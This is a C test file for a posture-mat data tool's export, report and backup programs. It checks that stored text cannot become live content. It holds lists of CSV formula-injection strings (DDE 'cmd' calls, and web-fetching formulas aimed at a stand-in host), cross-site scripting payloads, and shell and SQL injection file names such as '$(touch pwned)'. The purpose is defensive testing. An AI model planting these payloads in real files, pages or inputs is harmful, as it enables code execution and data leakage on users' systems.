/* Row 20: words and names that want to be more than words and names. */
#include "tests/storage/night_fixture.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "long_run.h"
#include "tests/support/csv.h"
#include "tests/support/program.h"

/* What a spreadsheet would run. */
static const char *const formulas[] = {
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x.example/\"&A1)",
    "=IMPORTXML(\"http://x.example\",\"//a\")",
    "=WEBSERVICE(\"http://x.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(A1:A9)*cmd|'/C calc'!A0",
    "=IF(1,2,3)",
    "=\"a\"&\"b\"",
    "=@SUM(1)",
    "=-2",
    "=+2",
    "==1",
    "=\t1",
    "= 1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+HYPERLINK(\"x\")",
    "+\"a\"",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "--1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@A1",
    "@\"x\"",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\",=1+1,\"",
};
enum { FORMULAS = sizeof formulas / sizeof *formulas };

/* What a browser would run, or what would end the element it stands in. */
static const char *const injections[] = {
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)",
    "\" onmouseover=\"alert(1)",
    "<meta http-equiv=refresh content=0>",
    "<base href=//x.example>",
    "{{7*7}}<b>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<style>@import'//x.example'</style>",
};
enum { INJECTIONS = sizeof injections / sizeof *injections };

/* Names of files that a shell, a terminal, SQLite or printf would make something of. */
static const char *const paths[] = {
    "$(touch pwned)",
    "`touch pwned`",
    ";touch pwned",
    "|touch pwned",
    "&& touch pwned",
    "a\ntouch pwned",
    "a b",
    " a",
    "a ",
    "-db",
    "--help",
    "-",
    "*",
    "?",
    "[a-z]",
    "~root",
    "%s%n%x",
    "%00",
    "file:a.db?mode=memory",
    "a.db?immutable=1",
    ":memory:",
    "a#b",
    "'; DROP TABLE session; --",
    "\"quoted\"",
    "back\\slash",
    "\x1b[31mred\x1b]0;title\x07",
    "\xc2\x9b"
    "31mred",
    "bad\xff\xfeutf8",
    "..a",
    "\xe2\x80\xae"
    "bd.erutsop",
};
enum { PATHS = sizeof paths / sizeof *paths };
_Static_assert(FORMULAS == 30 && PATHS == 30, "thirty of each");

/* A night in which every text that a person or a mat can choose says `words`. */
static void record_words(const char *db, int day, const char *words)
{
    struct pmat_store *store = NULL;
    struct pmat_fault fault = {0};
    struct pmat_session_key key = sample_key(day);
    struct pmat_session session = sample_session(day, 20);
    struct pmat_provenance provenance = {.config_text = words, .profile_text = words};
    struct pmat_event turn = sample_turn(session.start_utc_us + 60000000);
    pmat_session_id id = 0;
    snprintf(key.mat, sizeof key.mat, "%s", words);
    snprintf(turn.reason, sizeof turn.reason, "%s", words);
    snprintf(session.end_reason, sizeof session.end_reason, "%s", words);
    snprintf(provenance.calibration_id, sizeof provenance.calibration_id, "%.30s", words);
    snprintf(provenance.model_id, sizeof provenance.model_id, "%.20s", words);
    check_ok(pmat_store_open(&store, db, PMAT_STORE_WRITE, &fault), &fault);
    check_ok(pmat_store_session_begin(store, &key, &session, &provenance, &id, &fault), &fault);
    for (int32_t i = 0; i < 20; i++) {
        struct pmat_epoch epoch = sample_epoch(i);
        epoch.start_utc_us = session.start_utc_us + i * INT64_C(30000000);
        check_ok(pmat_store_put(store, id, &epoch, BOOT_ID, &turn, i == 5, &session, &fault),
                 &fault);
    }
    session.open = false;
    check_ok(pmat_store_session_end(store, id, &session, PMAT_SESSION_NIGHT, NULL, 0, &fault),
             &fault);
    pmat_store_close(store);
}

/* Cells that a spreadsheet would take for a formula; a plain number is none. */
static int count_live(const char *folder, const char *name)
{
    struct csv csv;
    char path[PROGRAM_PATH_SIZE];
    int live = 0;
    program_path(path, folder, name);
    csv_read(&csv, path);
    for (size_t i = 0; i < csv.rows * csv.cols; i++) {
        const char *cell = csv.fields[i];
        char *end = NULL;
        strtod(cell, &end);
        bool number = end != cell && *end == '\0';
        bool formula = !number && cell[0] != 0 && strchr("=+-@\t\r\n", cell[0]) != NULL;
        if (formula)
            print_message("%s: %s\n", name, cell);
        live += formula;
    }
    csv_free(&csv);
    return live;
}

static void no_formula_stands_in_a_table(void **state)
{
    struct fixture *fixture = *state;
    char folder[160];
    int live = 0;
    static struct program_result result;
    snprintf(folder, sizeof folder, "%s/csv", fixture->folder);
    for (int i = 0; i < FORMULAS; i++)
        record_words(fixture->db, 1 + i % 28, formulas[i]);
    program_run(&result, 60, "posture-export", "--db", fixture->db, "--output", folder, NULL);
    assert_int_equal(result.exit_code, 0);
    live += count_live(folder, "nights.csv") + count_live(folder, "events.csv") +
            count_live(folder, "epochs.csv");
    row_measured(20, "30 CSV formula strings: none pass", "%d of %d pass", live, FORMULAS);
    assert_int_equal(live, 0);
}

static void no_word_becomes_markup(void **state)
{
    struct fixture *fixture = *state;
    int passed = 0;
    static struct program_result result;
    for (int i = 0; i < INJECTIONS; i++) {
        struct pmat_session_key key = sample_key(1 + i);
        record_words(fixture->db, 1 + i, injections[i]);
        program_run(&result, 60, "posture-report", "--db", fixture->db, "--night", key.night,
                    "--format", "html", NULL);
        assert_int_equal(result.exit_code, 0);
        bool live = strstr(result.out, injections[i]) != NULL ||
                    strstr(result.out, "<script") != NULL || strstr(result.out, "<img") != NULL ||
                    strstr(result.out, "<iframe") != NULL || strstr(result.out, "<base") != NULL;
        if (live)
            print_message("passes: %s\n", injections[i]);
        passed += live;
    }
    row_measured(20, "an HTML injection set: none pass", "%d of %d pass", passed, INJECTIONS);
    assert_int_equal(passed, 0);
}

static bool is_plain(const char *text)
{
    for (const unsigned char *c = (const unsigned char *)text; *c != '\0'; c++)
        if ((*c < ' ' && *c != '\n' && *c != '\t') || *c == 127 || (*c == 0xC2 && c[1] < 0xA0))
            return false;
    return true;
}

/* Files in the folder whose names do not begin with `name`. */
static int count_others(const char *folder, const char *name)
{
    DIR *dir = opendir(folder);
    int others = 0;
    assert_non_null(dir);
    for (struct dirent *entry; (entry = readdir(dir)) != NULL;)
        others += strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0 &&
                  strncmp(entry->d_name, name, strlen(name)) != 0;
    closedir(dir);
    return others;
}

static void every_name_is_only_a_name(void **state)
{
    (void)state;
    int passed = 0;
    static struct program_result made, report, wrong;
    for (int i = 0; i < PATHS; i++) {
        struct fixture fixture;
        char missing[200];
        fixture_make(&fixture);
        snprintf(fixture.db, sizeof fixture.db, "%s/%s", fixture.folder, paths[i]);
        record_words(fixture.db, 1, "plain");
        program_run(&made, 60, "posture-backup", "now", "--db", fixture.db, NULL);
        program_run(&report, 60, "posture-report", "--db", fixture.db, NULL);
        snprintf(missing, sizeof missing, "%s/%s/missing", fixture.folder, paths[i]);
        program_run(&wrong, 60, "posture-report", "--db", missing, NULL);
        bool bad = made.exit_code != 0 || report.exit_code != 0 || wrong.exit_code == 0 ||
                   text_lines(wrong.err) != 1 || !is_plain(wrong.err) ||
                   count_others(fixture.folder, paths[i]) != 0 || access("pwned", F_OK) == 0;
        if (bad)
            print_message("passes: '%s': %d %d %d %s%s", paths[i], made.exit_code, report.exit_code,
                          wrong.exit_code, made.err, wrong.err);
        passed += bad;
        fixture_remove(&fixture);
    }
    row_measured(20, "30 hostile path names: none pass", "%d of %d pass", passed, PATHS);
    assert_int_equal(passed, 0);
}

/* Not one option of any program takes a secret: whoever lists processes learns nothing. */
static void no_option_takes_a_secret(void **state)
{
    (void)state;
    static const char *const words[] = {"password", "passphrase", "token", "secret", "credential"};
    static struct program_result help;
    char folder[PROGRAM_PATH_SIZE];
    snprintf(folder, sizeof folder, "%s/bin", PMAT_BUILD_DIR);
    DIR *dir = opendir(folder);
    assert_non_null(dir);
    int programs = 0;
    for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
        if (strncmp(entry->d_name, "posture-", 8) != 0)
            continue;
        program_run(&help, 60, entry->d_name, "--help", NULL);
        for (size_t w = 0; w < sizeof words / sizeof *words; w++)
            assert_null(strcasestr(help.out, words[w]));
        programs++;
    }
    closedir(dir);
    row_measured(20, "no secret in argv", "0 options of %d programs take one", programs);
    assert_true(programs > 4);
}

int main(void)
{
#define ROW(name) cmocka_unit_test_setup_teardown(name, fixture_setup, fixture_teardown)
    const struct CMUnitTest tests[] = {
        ROW(no_formula_stands_in_a_table),
        ROW(no_word_becomes_markup),
        cmocka_unit_test(every_name_is_only_a_name),
        cmocka_unit_test(no_option_takes_a_secret),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
